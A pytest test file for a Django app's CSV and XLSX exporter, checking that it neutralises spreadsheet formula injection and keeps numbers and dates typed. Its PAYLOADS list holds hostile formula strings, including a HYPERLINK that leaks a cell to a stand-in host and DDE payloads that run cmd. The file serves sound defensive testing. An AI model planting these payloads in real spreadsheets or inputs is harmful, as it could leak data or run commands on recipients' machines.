"""The one CSV/XLSX writer neutralises formula injection (OWASP) and keeps numbers and dates typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.test import RequestFactory
from openpyxl import Workbook, load_workbook

from mosprom.core.exports import csv_delimiter, rows_to_csv, rows_to_xlsx, safe_cell, unneutralise, xlsx_append

# The payloads and OWASP's list of first characters, plus full-width forms.
PAYLOADS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/")@example.com',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=1+1;=2+2",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
HARMLESS = ["Анна Петрова", "anna@example.com", "8 (999) 123-45-67", "1 = 1", "ООО «Завод»", ""]


def _read_csv(content: bytes, delimiter: str = ",") -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_prefixes_every_formula_trigger(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", HARMLESS)
def test_safe_cell_leaves_ordinary_text_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_safe_cell_keeps_numbers_and_dates_typed() -> None:
    assert safe_cell(-5) == -5
    assert safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell(dt.date(2026, 10, 21)) == dt.date(2026, 10, 21)
    assert safe_cell(None) == ""
    assert safe_cell(True) is True


def test_csv_neutralises_payloads_in_every_column() -> None:
    rows = [[p, f"{p}@example.com", 3] for p in PAYLOADS]
    content = rows_to_csv(["=Name", "E-mail", "Party"], rows)
    parsed = _read_csv(content)
    assert parsed[0] == ["'=Name", "E-mail", "Party"]
    for payload, row in zip(PAYLOADS, parsed[1:], strict=True):
        assert row[0] == "'" + payload
        assert row[1] == "'" + payload + "@example.com"
        assert row[2] == "3"
    for row in parsed[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)


def test_csv_semicolon_for_russian_excel() -> None:
    content = rows_to_csv(["Название", "Число"], [["Завод; цех", -7], [None, 1.5]], delimiter=";")
    text = content.decode("utf-8-sig")
    assert text.splitlines()[0] == "Название;Число"
    assert _read_csv(content, ";") == [["Название", "Число"], ["Завод; цех", "-7"], ["", "1.5"]]


def test_csv_delimiter_from_the_query_string() -> None:
    factory = RequestFactory()
    assert csv_delimiter(factory.get("/x.csv", {"sep": "semicolon"})) == ";"
    assert csv_delimiter(factory.get("/x.csv", {"sep": "tab"})) == "\t"
    assert csv_delimiter(factory.get("/x.csv", {"sep": "|"})) == ","
    assert csv_delimiter(factory.get("/x.csv")) == ","


def test_xlsx_writes_payloads_as_text_never_formulas() -> None:
    rows: list[list[Any]] = [[p, f"{p}@example.com", 2] for p in PAYLOADS]
    content = rows_to_xlsx(["Name", "E-mail", "Party"], rows, title="Registrants")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == ["Name", "E-mail", "Party"]
    for index, payload in enumerate(PAYLOADS, start=2):
        name, email, party = sheet[index]
        assert name.data_type == "s"
        assert name.value == "'" + payload
        assert email.data_type == "s"
        assert email.value == "'" + payload + "@example.com"
        assert party.data_type == "n"
        assert party.value == 2
    # No cell of the file is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_dates_are_dates_and_numbers_are_numbers() -> None:
    moscow = ZoneInfo("Europe/Moscow")
    when = dt.datetime(2026, 10, 21, 9, 30, tzinfo=dt.UTC)
    content = rows_to_xlsx(
        ["Date", "When", "Count", "Share", "Note"],
        [[dt.date(2026, 10, 21), when, -3, Decimal("0.25"), None]],
        title="A very long sheet title that Excel would refuse",
    )
    book = load_workbook(io.BytesIO(content))
    sheet = book.active
    assert sheet is not None
    assert sheet.title == "A very long sheet title that Ex"
    day, moment, count, share, note = sheet[2]
    assert day.is_date and day.value == dt.datetime(2026, 10, 21)
    assert day.number_format == "DD.MM.YYYY"
    assert moment.is_date and moment.value == when.astimezone(moscow).replace(tzinfo=None)
    assert moment.number_format == "DD.MM.YYYY HH:MM"
    assert count.value == -3 and count.data_type == "n"
    assert share.value == 0.25
    assert note.value is None


def test_xlsx_append_works_on_any_sheet_with_blank_rows() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    xlsx_append(sheet, ["Title"])
    xlsx_append(sheet, [])
    xlsx_append(sheet, ["=1+1", 5])
    assert sheet["A1"].value == "Title"
    assert sheet["A3"].value == "'=1+1"
    assert sheet["A3"].data_type == "s"
    assert sheet["B3"].value == 5


@pytest.mark.parametrize("payload", PAYLOADS + HARMLESS + ["'quoted'", "'"])
def test_unneutralise_gives_back_what_was_typed(payload: str) -> None:
    assert unneutralise(safe_cell(payload)) == payload
